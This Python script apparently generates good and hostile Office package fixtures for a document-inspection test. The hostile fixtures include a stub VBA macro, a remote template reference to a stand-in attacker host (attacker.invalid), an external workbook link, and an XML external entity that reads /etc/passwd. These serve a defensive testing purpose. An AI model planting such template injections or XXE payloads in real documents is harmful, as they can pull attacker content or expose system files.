# Good and hostile Office packages (docx, xlsx) for inspect_checks_test.cc.
import zipfile
O = '/output/'
CT = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      '<Default Extension="xml" ContentType="application/xml"/></Types>')
R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/'

def rels(*items):
    body = ''.join('<Relationship Id="rId%d" Type="%s%s" Target="%s"%s/>' % (i, R, t, target, ' TargetMode="External"' if ext else '')
                   for i, (t, target, ext) in enumerate(items, 1))
    return ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + body + '</Relationships>')

def pkg(name, parts):
    with zipfile.ZipFile(O + name, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('[Content_Types].xml', CT)
        z.writestr('_rels/.rels', rels(('officeDocument', 'word/document.xml', False)))
        for n, d in parts:
            z.writestr(n, d)

DOC = '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
pkg('good.docx', [('word/document.xml', DOC)])
pkg('macro.docx', [('word/document.xml', DOC), ('word/vbaProject.bin', b'\xd0\xcf\x11\xe0 not really OLE')])
pkg('template.docx', [('word/document.xml', DOC),
                      ('word/_rels/settings.xml.rels', rels(('attachedTemplate', 'http://attacker.invalid/t.dotm', True)))])
pkg('link.docx', [('word/document.xml', DOC),
                  ('word/_rels/document.xml.rels', rels(('hyperlink', 'https://example.invalid/', True)))])
pkg('external.xlsx', [('xl/workbook.xml', '<workbook/>'),
                      ('xl/_rels/workbook.xml.rels', rels(('externalLink', 'externalLinks/externalLink1.xml', False))),
                      ('xl/externalLinks/externalLink1.xml', '<externalLink/>'),
                      ('xl/externalLinks/_rels/externalLink1.xml.rels',
                       rels(('externalLinkPath', 'file:///C:/secret/other.xlsx', True)))])
pkg('bad_rels.docx', [('word/document.xml', DOC),
                      ('word/_rels/document.xml.rels', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><Relationships>&x;</Relationships>')])
z = zipfile.ZipFile(O + 'plain.docx', 'w'); z.writestr('word/document.xml', DOC); z.close()
